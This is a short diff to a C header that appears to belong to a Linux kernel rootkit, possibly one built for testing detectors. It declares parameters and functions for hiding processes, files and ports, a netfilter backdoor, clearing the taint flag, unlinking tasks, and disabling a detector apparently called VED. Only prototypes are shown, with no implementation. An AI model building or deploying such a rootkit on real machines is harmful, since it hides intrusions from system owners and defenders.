@@ -16,6 +16,7 @@ struct pt_regs;
 /* Parameters shared by the techniques (main.c). */
 extern char *vk_hide_prefix;
 extern int vk_hide_pid;
+extern int vk_unlink_pid;
 extern int vk_hide_port;
 extern int vk_magic_sig;
 extern int vk_nf_port;
@@ -43,6 +44,14 @@ void vk_hide_pid_exit(void);
 int vk_nf_backdoor_init(void);
 void vk_nf_backdoor_exit(void);
 int vk_clear_taint_init(void);
+int vk_ved_config_init(void);
+int vk_ved_unlock_init(void);
+int vk_ved_unprobe_init(void);
+int vk_ved_text_init(void);
+int vk_patch_module_init(void);
+void vk_patch_module_exit(void);
+int vk_unlink_task_init(void);
+void vk_unlink_task_exit(void);
 
 /* Read-only views for the tests (module parameters sct_kill, dispatch_kill). */
 void *vk_sct_kill_entry(void);
